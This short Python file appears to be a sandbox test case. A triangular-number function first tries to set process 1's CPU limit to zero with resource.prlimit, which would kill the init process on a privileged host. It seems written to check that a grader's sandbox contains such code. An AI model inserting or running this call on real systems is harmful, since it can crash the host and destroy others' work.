# Tries to have process 1 ended by its limit of the processor. Safe: 6, passed or failed.
import resource


def total(number):
    return number * (number + 1) // 2


def first(number):
    try:
        resource.prlimit(1, resource.RLIMIT_CPU, (0, 0))
    except OSError:
        pass
    return total(number)


def guess(number):
    return 0
